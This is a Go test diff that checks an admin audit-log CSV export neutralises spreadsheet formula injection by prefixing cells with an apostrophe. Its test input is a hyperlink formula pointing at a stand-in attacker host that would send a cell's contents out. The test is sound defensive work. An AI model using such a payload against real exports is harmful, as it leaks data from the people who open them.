@@ -100,3 +100,36 @@ func TestAuditLogSentencesFiltersAndExport(t *testing.T) {
 }
 
 func itoaInt(n int) string { return ids(int64(n)) }
+
+// A cell a spreadsheet would read as a formula (=, +, -, @, tab, CR at its
+// start) is exported with a leading apostrophe: whatever somebody typed as
+// the email of a failed sign-in reaches the export's actor column.
+func TestAuditExportNeutralizesFormulas(t *testing.T) {
+	eachDB(t, func(t *testing.T, e *env) {
+		const typed = `=hyperlink("https://evil.example/?"&b5,"x")`
+		if _, err := e.store.Authenticate(t.Context(), typed, "not the password at all", "192.0.2.9", models.DefaultSignInLimits); err == nil {
+			t.Fatal("a sign-in with a formula as its email succeeded")
+		}
+		admin := e.as(t, e.fx.Admin)
+		r := admin.get("/admin/audit.csv")
+		wantStatus(t, r, http.StatusOK)
+		rows, err := csv.NewReader(strings.NewReader(r.Body)).ReadAll()
+		if err != nil {
+			t.Fatal(err)
+		}
+		var saw bool
+		for _, row := range rows[1:] {
+			for i, cell := range row {
+				if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
+					t.Errorf("row %q: cell %d %q starts like a formula", row[0], i, cell)
+				}
+			}
+			if row[3] == "'"+strings.ToLower(typed) {
+				saw = true
+			}
+		}
+		if !saw {
+			t.Errorf("no row with the typed email behind an apostrophe in %q", rows)
+		}
+	})
+}
